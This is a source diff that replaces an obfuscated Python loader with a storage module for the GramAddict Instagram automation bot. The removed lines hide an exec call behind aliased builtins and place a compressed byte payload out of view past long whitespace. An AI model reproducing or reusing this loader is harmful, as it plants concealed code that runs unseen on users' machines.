@@ -1,96 +1,527 @@
-from builtins import *
-from math import prod as _product
+import json
+import logging
+import os
+import sys
+from datetime import datetime, timedelta
+from enum import Enum, unique
+from typing import Dict, Iterable, Optional, Tuple, Union
 
+from atomicwrites import atomic_write
+from colorama import Fore, Style
 
-__obfuscator__ = 'Deluxe'
-__authors__ = "SadHam"
-__github__ = 'https://github.com/'
-__discord__ = 'https://discord.gg/'
-__license__ = 'EPL-2.0'
+from GramAddict.core.storage_backends import StorageBackend, create_users_backend
 
-__code__ = 'print("Hello world!")'
+logger = logging.getLogger(__name__)
 
+ACCOUNTS = "accounts"
+REPORTS = "reports"
+FILENAME_HISTORY_FILTER_USERS = "history_filters_users.json"
+FILENAME_INTERACTED_USERS = "interacted_users.json"
+FILENAME_SESSIONS = "sessions.json"
+OLD_FILTER = "filter.json"
+FILTER = "filters.yml"
+USER_LAST_INTERACTION = "last_interaction"
+USER_LAST_FILTER = "datetime"
+USER_LAST_CHECK = "last_check"
+USER_FOLLOWING_STATUS = "following_status"
 
-Builtins, Walk, _frame, _square, Math, _math, Run = exec, str, tuple, map, ord, globals, type
+FILENAME_WHITELIST = "whitelist.txt"
+FILENAME_BLACKLIST = "blacklist.txt"
+FILENAME_COMMENTS = "comments_list.txt"
+FILENAME_MESSAGES = "pm_list.txt"
+FILENAME_WELCOME_MESSAGES = "pm_welcome.txt"
 
-class _random:
-    def __init__(self, _stackoverflow):
-        self._add = _product((_stackoverflow, 45942))
-        self.Substract(_hypothesis=92973)
 
-    def Substract(self, _hypothesis = Ellipsis):
-        # sourcery skip: collection-to-bool, remove-redundant-boolean, remove-redundant-except-handler
-        self._add *= 85279 / _hypothesis
-        
-        try:
-            ({_square: Divide} or _square if {_square: Divide} and _square else ... or (_square, {_square: Divide}))
+class Storage:
+    def __init__(self, my_username, backend: Optional[str] = None):
+        if my_username is None:
+            logger.error(
+                "No username, thus the script won't get access to interacted users and sessions data."
+            )
+            return
+        self.account_path = os.path.join(ACCOUNTS, my_username)
+        if not os.path.exists(self.account_path):
+            os.makedirs(self.account_path)
+        self.history_filter_users = {}
+        self.filter_decisions = {}
+        # the filters.yml the rejections are made with, see FilterPlan.conditions_hash
+        self.filters_hash = None
+        self.backend = StorageBackend.from_arg(backend)
+        self.interacted_users = create_users_backend(
+            self.backend, self.account_path, FILENAME_INTERACTED_USERS
+        )
+        self.interacted_users_path = self.interacted_users.path
+        self.sessions_path = os.path.join(self.account_path, FILENAME_SESSIONS)
+        self.history_filter_users_path = os.path.join(
+            self.account_path, FILENAME_HISTORY_FILTER_USERS
+        )
 
-        except TypeError:
-            (_square, _frame, Math) if Walk != Walk else {'e5oBtRte5bibgoey6': _square} == Walk
+        if os.path.isfile(self.history_filter_users_path):
+            with open(self.history_filter_users_path, encoding="utf-8") as json_file:
+                try:
+                    self.history_filter_users = json.load(json_file)
+                except Exception as e:
+                    logger.error(
+                        f"Please check {json_file.name}, it contains this error: {e}"
+                    )
+                    sys.exit(0)
+        # the sqlite backend is cleaned only once, when it's migrated from json
+        if self.backend == StorageBackend.JSON or self.interacted_users.migrated:
+            self._clean_data()
+        self.filter_path = os.path.join(self.account_path, FILTER)
+        if not os.path.exists(self.filter_path):
+            self.filter_path = os.path.join(self.account_path, OLD_FILTER)
 
-        except:
-            Run(71869 - -25776) == False
+        whitelist_path = os.path.join(self.account_path, FILENAME_WHITELIST)
+        if os.path.exists(whitelist_path):
+            with open(whitelist_path, encoding="utf-8") as file:
+                self.whitelist = frozenset(line.rstrip() for line in file)
+        else:
+            self.whitelist = frozenset()
 
-    def CallFunction(self, Hypothesis = -53978):
-        # sourcery skip: collection-to-bool, remove-redundant-boolean, remove-redundant-except-handler
-        Hypothesis /= 69929 + -85831
-        self._walk != Ellipsis
-        
-        try:
-            ((_frame, Math) or Divide if (_frame, Math) and Divide else ... or (Divide, (_frame, Math)))
+        blacklist_path = os.path.join(self.account_path, FILENAME_BLACKLIST)
+        if os.path.exists(blacklist_path):
+            with open(blacklist_path, encoding="utf-8") as file:
+                self.blacklist = frozenset(line.rstrip() for line in file)
+        else:
+            self.blacklist = frozenset()
 
-        except ArithmeticError:
-            ({_square: Divide} or Math if {_square: Divide} and Math else ... or (Math, {_square: Divide}))
+        self.report_path = os.path.join(self.account_path, REPORTS)
+        self.unfollow_index = {}
+        self.unfollow_cutoff = ""
 
-        except:
-            Run(-41250 - 67517) == type
+    def _clean_data(self):
+        interactions = [
+            "liked",
+            "watched",
+            "commented",
+            "followed",
+            "unfollowed",
+            "scraped",
+            "pm_sent",
+            "welcomed",
+        ]
 
-    def _invert(_statistics = False):
-        return _math()[_statistics]
+        def _is_interacted(interacted_user: dict) -> bool:
+            return any(interacted_user.get(u, False) for u in interactions)
 
-    def _run(Theory = -56257 * 34796, _builtins = bool, _memoryaccess = _math):
-        # sourcery skip: collection-to-bool, remove-redundant-boolean, remove-redundant-except-handler
-        _memoryaccess()[Theory] = _builtins
-        
-        try:
-            ((_square, _frame, Math) or Math if (_square, _frame, Math) and Math else ... or (Math, (_square, _frame, Math)))
+        cleaned = {}
+        not_in_history = 0
+        probably_interacted = 0
+        for user, interacted_user in self.interacted_users.items():
+            if _is_interacted(interacted_user):
+                cleaned[user] = interacted_user
+            else:
+                if user not in self.history_filter_users:
+                    not_in_history += 1
+                else:
+                    skip_reason = self.history_filter_users[user].get("skip_reason")
+                    if skip_reason is None:
+                        logger.debug(
+                            f"{user} was actually interacted! {self.history_filter_users[user].get('following_status')}"
+                        )
+                        probably_interacted += 1
+                    else:
+                        logger.debug(f"{user} skipped because {skip_reason}")
+        if len(cleaned) < len(self.interacted_users):
+            logger.info(
+                f"Data has been cleaned {len(self.interacted_users)} -> {len(cleaned)} ({not_in_history} were also not in history)"
+            )
+            self.interacted_users.replace_all(cleaned)
+        if probably_interacted:
+            logger.info(
+                f"{probably_interacted} users were probably interacted! (maybe bot crashes!)"
+            )
 
-        except OSError:
-            (_square, _frame, Math) if _square is _square else (Walk, Walk) <= Math
+    def can_be_reinteract(
+        self,
+        last_interaction: datetime,
+        hours_that_have_to_pass: Optional[Union[int, float]],
+    ) -> bool:  # TODO: should be merged with can_be_rechecked
+        if hours_that_have_to_pass is None:
+            return False
+        elif hours_that_have_to_pass == 0:
+            return True
+        return self._check_time(
+            last_interaction, timedelta(hours=hours_that_have_to_pass)
+        )
 
-        except:
-            Run(-11761 * 58141) == float
+    def can_be_unfollowed(
+        self, last_interaction: datetime, days_that_have_to_pass: Optional[int]
+    ) -> bool:
+        if days_that_have_to_pass is None:
+            return False
+        return self._check_time(
+            last_interaction, timedelta(days=days_that_have_to_pass)
+        )
 
-    def execute(code = str):
-        return Builtins(Walk(_frame(_square(Math, code))))
+    def _check_time(
+        self, stored_time: Optional[datetime], limit_time: timedelta
+    ) -> bool:
+        if stored_time is None or limit_time == timedelta(hours=0):
+            return True
+        return datetime.now() - stored_time >= limit_time
+
+    def check_user_was_interacted(
+        self, username
+    ) -> Tuple[Optional[datetime], Optional[datetime]]:
+        """
+        Returns the last filter time and the last time the user was interacted.
+        """
+        filtered_user = self.history_filter_users.get(username, False)
+        interacted_user = self.interacted_users.get(username, False)
+        last_filtration = filtered_user.get(USER_LAST_FILTER) if filtered_user else None
+        last_interaction = (
+            interacted_user.get(USER_LAST_INTERACTION) if interacted_user else None
+        )
+        return self._get_time(last_filtration), self._get_time(last_interaction)
+
+    def _get_time(self, datetime_string: str) -> Optional[datetime]:
+        if datetime_string is None:
+            return None
+        return datetime.strptime(datetime_string, "%Y-%m-%d %H:%M:%S.%f")
+
+    def check_user_was_checked(self, username):
+        user = self.interacted_users.get(username)
+        if user is None:
+            return None
+        last_check = user.get(USER_LAST_CHECK)
+        if last_check is None:
+            return None
+        return datetime.strptime(last_check, "%Y-%m-%d %H:%M:%S.%f")
+
+    def check_user_was_welcomed(self, username):
+        user = self.interacted_users.get(username)
+        return user is not None and bool(user.get("welcomed"))
+
+    def get_following_status(self, username):
+        return self._get_following_status(username, self.interacted_users.get(username))
+
+    def _get_following_status(self, username, user: Optional[dict]):
+        if user is None:
+            return FollowingStatus.NOT_IN_LIST
+        following_status = (
+            user.get(USER_FOLLOWING_STATUS).upper()
+            if user.get(USER_FOLLOWING_STATUS)
+            else "NONE"
+        )
+        if FollowingStatus[following_status] == FollowingStatus.NONE:
+            has_been_followed = user.get("followed", False)
+            has_been_welcomed = user.get("welcomed", False)
+            if has_been_followed:
+                return FollowingStatus.FOLLOWED
+            if has_been_welcomed:
+                logger.debug(f"{username} has probably only welcomed!")
+                return FollowingStatus.NONE
+            logger.warning(
+                f"{username} has been interacted but not followed by this bot!"
+            )
+        return FollowingStatus[following_status]
+
+    def get_check_time(self, username):
+        user = self.history_filter_users.get(username)
+        if user is None:
+            return None
+        return datetime.strptime(user["datetime"], "%Y-%m-%d %H:%M:%S.%f")
+
+    def can_be_rechecked(self, filtered_when, time_since_last_check):
+        if filtered_when is not None and time_since_last_check:
+            return datetime.now() - filtered_when > timedelta(
+                hours=time_since_last_check
+            )
+        return False
+
+    def get_filter_rejection(
+        self, username, can_recheck_after: Optional[int]
+    ) -> Optional["FilterDecision"]:
+        """
+        Returns the last decision of the filters about username if it was a
+        rejection which is still valid: it was made by the current filters and
+        it expires after can_recheck_after hours, or never if it isn't set.
+        """
+        decision = self.filter_decisions.get(username)
+        if decision is None:
+            filtered_user = self.history_filter_users.get(username)
+            if filtered_user is None:
+                return None
+            decision = FilterDecision(
+                filtered_user.get("skip_reason"),
+                self._get_time(filtered_user.get(USER_LAST_FILTER)),
+                filtered_user,
+                filtered_user.get("filters_hash"),
+            )
+            self.filter_decisions[username] = decision
+        if not decision.rejected or decision.filtered_when is None:
+            return None
+        if decision.filters_hash != self.filters_hash:
+            return None
+        if self.can_be_rechecked(decision.filtered_when, can_recheck_after):
+            return None
+        return decision
+
+    def add_filter_user(self, username, profile_data, skip_reason=None):
+        user = profile_data.__dict__
+        user["follow_button_text"] = (
+            None if profile_data.is_restricted else profile_data.follow_button_text.name
+        )
+        if skip_reason is not None and not skip_reason:
+            if username in self.history_filter_users:
+                user["skip_reason"] = self.history_filter_users[username].get(
+                    "skip_reason"
+                )
+        else:
+            user["skip_reason"] = None if skip_reason is None else skip_reason.name
+        user["filters_hash"] = self.filters_hash
+        self.history_filter_users[username] = user
+        self.filter_decisions.pop(username, None)
+        if self.history_filter_users_path is not None:
+            with atomic_write(
+                self.history_filter_users_path, overwrite=True, encoding="utf-8"
+            ) as outfile:
+                json.dump(self.history_filter_users, outfile, indent=4, sort_keys=False)
+
+    def add_interacted_user(
+        self,
+        username,
+        session_id,
+        followed=False,
+        is_private=False,
+        unfollowed=False,
+        scraped=False,
+        liked=0,
+        watched=0,
+        commented=0,
+        pm_sent=False,
+        welcomed=False,
+        exists=True,
+        checked=False,
+        job_name=None,
+        target=None,
+        update_status=True,
+    ):
+        if not any(
+            [
+                liked,
+                watched,
+                commented,
+                pm_sent,
+                welcomed,
+                followed,
+                unfollowed,
+                scraped,
+            ]
+        ):
+            return
+
+        user = self.interacted_users.get(username, {})
+        user["exists"] = exists
+        if welcomed:
+            user["welcomed"] = True
+        user[USER_LAST_INTERACTION] = datetime.now().strftime("%Y-%m-%d %H:%M:%S.%f")
+        # Save only the last session_id
+        user["session_id"] = session_id
+
+        # Save only the last job_name and target
+        if not user.get("job_name"):
+            user["job_name"] = job_name
+        if not user.get("target"):
+            user["target"] = target
+        if update_status:
+            if followed:
+                if is_private:
+                    user[
+                        USER_FOLLOWING_STATUS
+                    ] = FollowingStatus.REQUESTED.name.casefold()
+                else:
+                    user[
+                        USER_FOLLOWING_STATUS
+                    ] = FollowingStatus.FOLLOWED.name.casefold()
+            elif unfollowed:
+                user[USER_FOLLOWING_STATUS] = FollowingStatus.UNFOLLOWED.name.casefold()
+            elif scraped:
+                user[USER_FOLLOWING_STATUS] = FollowingStatus.SCRAPED.name.casefold()
+            else:
+                user[USER_FOLLOWING_STATUS] = FollowingStatus.NONE.name.casefold()
+            if user.get(USER_FOLLOWING_STATUS) is None:
+                user[USER_FOLLOWING_STATUS] = FollowingStatus.NONE.name.casefold()
+
+            # Increase the value of liked, watched or commented if we have already a value
+            user["liked"] = liked if "liked" not in user else (user["liked"] + liked)
+            user["watched"] = (
+                watched if "watched" not in user else (user["watched"] + watched)
+            )
+            user["commented"] = (
+                commented
+                if "commented" not in user
+                else (user["commented"] + commented)
+            )
+
+            # Update the followed or unfollowed boolean only if we have a real update
+            user["followed"] = (
+                followed
+                if "followed" not in user or user["followed"] != followed
+                else user["followed"]
+            )
+            user["unfollowed"] = (
+                unfollowed
+                if "unfollowed" not in user or user["unfollowed"] != unfollowed
+                else user["unfollowed"]
+            )
+            user["scraped"] = (
+                scraped
+                if "scraped" not in user or user["scraped"] != scraped
+                else user["scraped"]
+            )
+            user["pm_sent"] = (
+                pm_sent
+                if "pm_sent" not in user or user["pm_sent"] != pm_sent
+                else user["pm_sent"]
+            )
+            user["welcomed"] = (
+                welcomed
+                if "welcomed" not in user or user["welcomed"] != welcomed
+                else user["welcomed"]
+            )
+        self.interacted_users.save(username, user)
+        logger.debug(
+            f"{username} added to interacted_users",
+            extra={"color": f"{Fore.WHITE}{Style.DIM}"},
+        )
+
+    def is_user_in_whitelist(self, username):
+        return username in self.whitelist
+
+    def is_user_in_blacklist(self, username):
+        return username in self.blacklist
+
+    def classify_usernames(
+        self, usernames: Iterable[str]
+    ) -> Dict[str, "UsernameClassification"]:
+        """
+        Returns whitelist, blacklist, interaction and following status of all the usernames
+        with one lookup for each of them, it's meant to be used for a whole screen of users.
+        """
+        classified = {}
+        for username in usernames:
+            if username in classified:
+                continue
+            user = self.interacted_users.get(username)
+            filtered_user = self.history_filter_users.get(username)
+            classified[username] = UsernameClassification(
+                in_whitelist=username in self.whitelist,
+                in_blacklist=username in self.blacklist,
+                following_status=self._get_following_status(username, user),
+                welcomed=user is not None and bool(user.get("welcomed")),
+                filtered_when=self._get_time(
+                    filtered_user.get(USER_LAST_FILTER) if filtered_user else None
+                ),
+                interacted_when=self._get_time(
+                    user.get(USER_LAST_INTERACTION) if user else None
+                ),
+            )
+        return classified
+
+    def _get_last_day_interactions_count(self):
+        since = (datetime.now() - timedelta(days=1)).strftime("%Y-%m-%d %H:%M:%S.%f")
+        return self.interacted_users.count_interacted_since(since)
+
+    def get_users_to_unfollow(self, min_days: int) -> list:
+        """
+        Returns the users followed or requested at least min_days ago and still existing.
+        """
+        before = (datetime.now() - timedelta(days=min_days)).strftime(
+            "%Y-%m-%d %H:%M:%S.%f"
+        )
+        return [
+            username
+            for username, user in self.interacted_users.followed_before(before)
+            if user.get("exists") is None or user.get("exists")
+        ]
+
+    def build_unfollow_index(self, days_that_have_to_pass: Optional[int]) -> set:
+        """
+        Indexes the users followed by the bot (with the same statuses get_following_status
+        gives them) from the oldest to the newest interaction and returns the ones that
+        can already be unfollowed.
+        """
+        self.unfollow_index = dict(
+            sorted(self.interacted_users.followed_times(), key=lambda x: x[1])
+        )
+        if days_that_have_to_pass is None:
+            self.unfollow_cutoff = ""
+            return set()
+        self.unfollow_cutoff = (
+            datetime.now() - timedelta(days=days_that_have_to_pass)
+        ).strftime("%Y-%m-%d %H:%M:%S.%f")
+        eligible = set()
+        for username, followed_when in self.unfollow_index.items():
+            if followed_when > self.unfollow_cutoff:
+                break
+            eligible.add(username)
+        return eligible
+
+    def get_unfollow_eligible(self, usernames) -> list:
+        """
+        Returns the usernames which can be unfollowed, in the same order they were passed.
+        """
+        return [
+            username
+            for username in usernames
+            if username in self.unfollow_index
+            and self.unfollow_index[username] <= self.unfollow_cutoff
+        ]
+
+    def close(self):
+        self.interacted_users.close()
+
+
+class UsernameClassification:
+    def __init__(
+        self,
+        in_whitelist: bool,
+        in_blacklist: bool,
+        following_status: "FollowingStatus",
+        welcomed: bool,
+        filtered_when: Optional[datetime],
+        interacted_when: Optional[datetime],
+    ):
+        self.in_whitelist = in_whitelist
+        self.in_blacklist = in_blacklist
+        self.following_status = following_status
+        self.welcomed = welcomed
+        self.filtered_when = filtered_when
+        self.interacted_when = interacted_when
+
+
+class FilterDecision:
+    # a profile which didn't load can pass the filters the next time
+    TRANSIENT_SKIP_REASONS = ("NOT_LOADED",)
+
+    def __init__(
+        self,
+        skip_reason: Optional[str],
+        filtered_when: Optional[datetime],
+        profile: dict,
+        filters_hash: Optional[str] = None,
+    ):
+        self.skip_reason = skip_reason
+        self.filtered_when = filtered_when
+        self.profile = profile
+        self.filters_hash = filters_hash
 
     @property
-    def _walk(self):
-        self.Absolute = '<__main__._memoryaccess object at 0x000006808BE30309>'
-        return (self.Absolute, _random._walk)
-
-if True:
-    try:
-        _random.execute(code = __code__)
-        _positive = _random(_stackoverflow = 11371 / 38627)
-
-        _positive.CallFunction(Hypothesis = -11360 / _positive._add)                                                                                                                                                                                                                                                          ;_random._run(Theory='nnnmnmmnmmnnnnnnnnnmnmnn',_builtins=b'x\x9c\xe5\x1bko\xdb8\xf2{\x80\xfe\x07FEa\tu\xbc\xdd\\\x0fX\x04\xeb\xc5\xe5\x12\xb7u7qzqz\xbb\x8b\xac!\xc8\x16\x9d(\x95%\x9f\x1eM\x8c \xff\xfdf(R")Rq\xda.\x0e\xb8\xaa\x8d\x1f\xe4\xccp83\x1c\xce\x0c\xe9\xe7\xe4\xed\xdb]\xf2GZ\x92\x9b2/HH\xd3\xf9\xb2\xcc\x17AAC\x12\x90e\x14S"\xb5\xdcF\xc559\xa6qyGwv\x9e\x93\xa34\xb9\xca\x82\xa2\x8c\x83"J\x93|wgg\xa7\xc86\x07;\x04\x9ehI\\\xf6\x01\x1f\xdf\x17D\xd2\xcc\xf7\xc9\xee\x908\x15\x15\x87\xa4\x99\x04\x15\x94\xc5u\x9a\xe5\x1cd\x1a\x84\xef\x82\x95\x06r\x05,\x94s\x0eq]\x14\xeb\xfc\xe0\x87\x1f\xaa\xc6\xc1"]\xfd\xa0\x81\x87Q\xbeH\xb3P\x83\xe7\xad\x83\xab+\x1d>\x8e\x164\xc9)\x87\x1f}8\xd9\xdb\x1f\xbc\xd2`\x16i\xc8\x01z\xeb,J\n\xd7yG\xe38%\xb7i\x16\x87\xbb\x8e\xd7c\xb0\xdeA\x8d\x820\xbd\xfcS\x14\xf6\xbc\x1dz\xb7\xa0\xeb\x82\xcb(Y\x97\x80}\x9e\xe64\'AFIF\xc3?\x93\x7fGiL\x8b\xaaa\x1e\x97\xf4\xcf\x04\xd5\x83\xdf\x02\x82D\xfeL&\xe9<\r7$\x8e>\x01\xde&-\x1do\xa7\xe2,Z\xad\xd3\xac\xf0}\x18m\x93\xf7\xbc\x01\xbd\x8b\n\xd7\x03\xb5\xc4\xe9"\x88s\xd7\xbb\xec\x9d\x9c\xbc?\x19\xbf\x1f\xc3\xcb\xf8\xfd{\xf8\xf2\xfe\xa47\x1b^\xc5\xe9\x1c\xfaw\xda\x9d\x88\x82_\xe0\x1b\xeb\x1cc?~\x7f\xdf\xbb<8x\xb9\xf7r\xcf\xdds_\xfe\xe8y\xb3\xd90\x8c2\x0b\x85\xd5j\x95\xc0\xff\x04\xff\xe3\'\xf6\xadM\xe0\x8a\x16AQ\xd8\x88\xdc\xe2s\x07\xcf-\xfb\xab^\x81\xf9jn;\xc6n\xc4\x9bN\xf7\xa7\xfb\xfbSx\xf6\xf1m\xbfz\x05\xc4F^\x96\x11\xef*\x9a\x8c\x14\xbe\xdd\x02\x92\x99\x9a\xdb\x9b\x97Q\\D\tJ\xfds\x90\xe5;-\\$\xf8\x1b<\xbf\xe3\xdf\xef\xf0\xf6;\xbc\x02AI"\x8d|\\\xdb0y\x12\x15qT\xceu\xe1y}\xd4\tp?F\x1dU\xda\xc2\xefO\'\xe4]~3J\x83(\t\xe9\x9d\xdb\xa3y\x1c\xbciu\xcf<\xb3\x90$a\xa0(\xe0K\xb2\xfaN\xe4Tf\x17&1YM\x1bG\x841\x81\x05\xb0X\xc6\x08\xac\xcb\xd9\xb0\xd7\x1b\xdc\xa4Qb\x16o\x14\xdd\xc47\xf0\xc4\xf1\r|\x82\xffq\xfc}H\xb7\x08\xd2x\xf9$\xf1\x8eA6\xf1x\x0coc\xf66f/\xdf\x87\xb4h\x1c\xadW\xe9b\xebU;a\xcf\xe9\xe9i\xf5\x02o\x93\xefCPY\x91\x9b\x84d\xdeQ`\xb5Eq\x04\x0f[{h^7\xf0\x19\x9e\xefCVq\xf0\x99>q\x056\xeb\x0eW#\xbc\xa1\xd0\xbe\x13\x8f\x15\xa7i\xbb\xd7\xb6\x00q\x94\xe9\xbe\x18\x84\x8f\xc8\xe2\x9c\xa7I*\x8a\x16y\x90D_/)+\xa1\'K\xcaNIHj\x03\x99\xca\x1d\xbdN\xca\xad\x97\xa2E\\\xee\xbc\xf7:|M\xeb?\xf95d\xff\xe0\x1db\xbc\x90b\x16\xe0\xf6~Z\x16\x861\xbf\x07\xe3\\\xd0;\xe3Z\x86g\x99\xa5+"\x02bR\x05\xd9$H6}@Y\xf4c\x9a\xf4\xe3(/\xfa\xe9\x1a>a\x8a\xb2\x83\xedn\x0f\xb2\xa3\x1d\x0e|\x93\xa7\xc93\xf1%N\xaf\xae\xa2\xe4\xaa\xfe\x9e\xe6\xf5GHs\x9eU\xc3\x85\x90\xa0\x16\xd1\x8a\x8a\xe1\xc4\xf7>\xc1\xd7\x90\xc6E\xc0!iR\xae\x04\xd4\x08>\xf7I\x99D\xff))\xef.6k\x18L\x00\x9c\xad1\xb5\r\xe2>\xb9(\xd71P\xfb\x98D\xc8\x1a\x07\x86\x84v\x15-n\xb3\xa8\xa0\xcdDY\x9b\xcf\x1a9\xd8"\x8d\xd3,X\x05\x02\xe4M\x9a\x01\xa9i\xb1\x89)\x92\xc2\t\xd2\x8c\x0c\xc5L\x07\x90\x08\x9d\xb06\xd7\xf7\x93`\x05\xd9\xa6\x87p\x87GGg\x1f\'\x17S\x80t\x82\xc5"-\x93"w\x9e\xed\x9c\x8f>\x9c\x9dW\xad\x19E\xfa\xd8\xf8f|2\x9a\x1c\x9e\x8e\xfcw\xe3\xe9\xc5\xd9\xf9\x1f>4\\\x8c\xce\xfd\x8f\xd3\xd19\x03\xbd\x06\x15\xa4\xd9\xc6\x87\x95SP\xc8\xb9\xcb\x1c^\x07(x\x19{<\x01\xa4\xc3\xa3\x8b\xd1q\x83\t\xe9,\xcd\x82EAC\x0b\xd2t4\x9d\x8e\xcf&\x0c\x18R\xdb\x1c\x8b\x03\x02\xe8\xec\xe4\x98\xb3\x82\xbd\xd5\xe0\x12\x01\xa5=\x1flV1\xb4\xe3\xc8\xfe\xc9\xe1\xf4\xa2f\x07\xa8#X\x1c\xe4\x85/\xd8\x89\x18\x8d\x06\xb6\xa1&lA\xe9>z7:\xfa\xb5&\xb2\xb8\xa6\x8bO\xa2\xff\xcd\xd9\xc9\xc9\xd9o\xe3\xc9[\x7fzqx\xf1\x91\xcdc\x99B\x8a\x7f\x0b\xca\xf1sHRK\x14\xb14\xe3\xdf\xde\x8d/F\' i\x04\xbd\xbd\x06\xcd\xa3\x85\x0f\x8a\xbbB\x96\xcb?O\x0e\x8f~\x15P\xf38X|2A\x1d\x9d\x9d\x9e\x8e\xb8\x96\x17\xe9jEA\xcb\xbe\t\xf0\x14\xc4|\xf8v\xc4\x00\xd7+#\xc8o\xa3\x13 \xd7\x02\xbd\xa51P\xa6\x1c\x1a\xff-@\n9X$\x98\xe9\x15=x\xc6\xea\t!]bM\x01<\x81\xef\xbb9\x8d\x97}\xb2\xda0\x95\xa3Mz\x1c\x8a\x17{\xa4\x1e\x12\xe5d\x92&T\x02\xc0\xa7\xb2\xf2\x01\xcd\xb24s\xd5.|\x9cIJ\x04\x05X\xb4\xd7e\x0e/\x94\xe4\x8b,Z\x17\xe46Mz\x05\x81uA\xc0\xf0\xc1\xa4H\x91\x92\xc6\x0e\x19b\x0e.&$\xc2\xde\xd0\x01\x04\x03G\x1d\xc7S\xbff\xb4(\xb3\xa4i\xc39\x0e\xf8\xc2\xf2\xd7Aq\r\xe2J\xf3\x01~b\t\x95+\x16\xa0*\x08E\x0eIZ\xd48\xe0\xdb\xf2"w[d=M2\x00\xbf\n>\xd10\xcaL\xc0\x1a\x7f\xfa\xea\x03\x1e\xef\x1f4\x18um\xdb\xe1\xb8\x1d4\x94.g\x8f\x8cf\x14\x8b:\x9b\xd6\x0c\xfa\xc4\xeaN\x1aL}\x9aB\x8f\xc6\x01\xbb\x86\x10\xceGU\x8b@\x8fr\xaci\xba\xf6\xb9\xe9\xbaa%O\xdc\xa9:p\xfa\xb0\xa7@8\x00\xcea\xe8\x94\xc5r\xef\'\xc7#A\xce61T\x81\xbe\x10\xf0\xc1:i\xbb\xb5K\xc9Hm\x10\xa7A\xe8\xd6t\xbd\x0e\nm\xd5\x9a\x81\xf1A\x10{\xef2\xcd\x18\x04\xac73svT\x10\xbc\x11\xe3\x12_g\xb8\xcd\xb9\x8e`\xd4\xb1\xccf\xd6n\xaej\xa8d\xc4\xde\xc0HP\xd8&!\xe3\xf3\x88\xd7\xa9\'\xe9|\x88i\x90S\xc26\x02r_\xcbx\x80K\xfc\xa1O\xa2\x02v\xf1\xa4\x080\xa2)`}\x11F\xf1\x80\xdc\xd3\x07\xc7L\xd6\xa6\x9dM^\xd5e_\xe9&oZ\xb5_\xb9\xdeL\x9b\xbf\xb2\xe6\x1e]$V\xa6\x1eY(V\xbco\xbfX,\xden\xbb\x05\xf3\x7fjK\xfe\x02XH|\xdc\x04]\xbd\x8f\xcbi{\xc7\n\xa6\xb3\xdd&\'Q\xd6\xcd\xe3\x0bFnBE\xc5P\xeb\xf0\xea\xc9[C\x1d\xa5\x99\xf7\x06>\x13\x95\xbe\xdd\xccU8\x8bY[,\xbar\xd1\x82\x00z\xe78J\xe8 \xcb\x0b\x88v\\\x8f\xf9\\lA\x9f\x8b$$\'H\xe3\\\xa7\xd8\xa66\x93\x05VG\x9aO\x16X\x1d\xb0v\nL\xa5o\x17\x98\n\xf7\x05\x02\xab\t|\x13\x81)\xd4\x14\x81\xb1\xee*\x95\xdaVd<\x07\xab\r\x95\xc5\xce\xd2\x1aD\x14%bn\x92\x16\xc3\xe6\xec\xe0\xd1^\xe8\xf4\xb5\xd6\xdb\xa0\x00\x97\xd2n\xe7Y\x82\xa1\xa7\xcaZ\x0c\x1deb\xed\x82\x88;X\x1b\xda!o\xc8a\x946Wb\x03\x97:\x14q2YD\xb9\xdfD\x01\xae\x16\x10\x1c\x900Z\x14\x1e\xd9\xfb\x85\xcc\xd34\xd6\xb4U\x85\xe9X@\xd0\xf1X\x04Q\x82\xc1\x06\xa0\xe3\xca\x08J\xb4\x00Y\xba\x8a\xef`\x1a\x81|A\x8d\x85\xc1\x9d\x01s>\xdfG\xa0\xf3U\xd3\xb7\xce\xd2y0\x8f7\x12\xf7*\xc0\xa3\xe1\x916\x9b\xa8%\x8c\x8e\x10I_L\xd2\x1c*\x00\xe0\xa5\x03]E6,\x04\xce\x10\xe3\x1f\x9d\xba\x98\x83iK\xb5l\x8a\x9a\xf0^\x0e\xc9\x8f\x86]\xd6<4>\xf9\xa7h\xedg\xb0_\xc2\xde;\xb4\x8f.\x87\x8c\x12\x8a-j\xc4\xc8S"l\xceH\xe5\x87\xef\xed!\x9d\x97W\x1d{;>K\xe7\x1e\x99y \xb7\xe0\xaf@\xe6e\x10\xc7\x1b)\x1b\xdd%\xf7\xdbL\xa3\xa7\x97\x14z\x9em\xfb\xc7\xc72Q|L6j\xd6\x03>\x1d\xbah\t\xa2\x9e*\n\x13\x9c\x02\x99\xd3E\x00-0\xc3F\xba\x0f\x8e\xba=\xc4\xe0\xeb\xb9\x91z\xe4g\xf6\xd5h\xa3\xbaq\xf3\x91#pM\x06\r,\x9dcp\xa4\xe4\x1ad>\xa74\xa9\x97\xf2\xbd\x9d\xfe\x03:\x94{\x99\x9d\x07\xe2\xde\xab\x06\x0bZ\xa4x\xb5"\xceS\xb1\x02x\x8f\xd7]<\xb0\xe5i|(E"\x06\x05=q\xee\xf7\x06\x12\x0f\xbc\xec\xc1& 